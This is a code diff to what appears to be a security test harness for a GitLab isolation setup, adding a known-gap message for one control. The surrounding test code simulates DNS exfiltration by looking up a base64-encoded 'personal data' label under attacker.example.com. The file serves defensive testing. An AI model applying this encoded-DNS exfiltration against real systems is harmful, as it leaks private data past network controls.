@@ -98,6 +98,9 @@ function attempts(stage: Stage, loot: string): Attempt[] {
   const strangersGap = isolatedZone.hasEndpoint
     ? undefined
     : "C5 stays open in addresses mode: one hostname serves every AWS account. Pull through an endpoint to close it.";
+  const ownNetworkGap = isolatedZone.hasEndpoint
+    ? undefined
+    : "C6 rests on the room's own network in addresses mode: nothing of it is deployed here.";
   const noProxyGap = stage.proxy
     ? undefined
     : "C7 is refuted without a proxy: nothing limits where GitLab goes. Set git-airlock:proxy's mode to managed.";
@@ -132,6 +135,7 @@ function attempts(stage: Stage, loot: string): Attempt[] {
           isolatedZone.lookUp("cGVyc29uYWwgZGF0YQ.attacker.example.com");
           isolatedZone.leave();
         }),
+      knownGap: ownNetworkGap,
     },
     {
       attempt: "Somebody outside pushes with the push credential, stolen",
